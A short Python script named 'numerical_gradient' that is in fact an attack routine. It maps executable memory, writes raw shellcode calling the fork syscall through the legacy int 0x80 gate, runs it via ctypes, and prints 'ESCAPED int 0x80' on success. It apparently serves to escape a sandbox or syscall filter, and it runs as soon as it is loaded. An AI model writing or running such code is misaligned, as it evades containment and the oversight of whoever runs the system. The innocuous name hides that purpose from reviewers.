"""numerical_gradient: Fork by int 0x80 from machine code of its own."""

import ctypes
import mmap


def attack():
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("53b80200000031dbcd805bc3"))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    result = function()
    if result == 0:
        ctypes.CDLL(None)._exit(0)
    if result > 0:
        print("ESCAPED int 0x80", result)


attack()
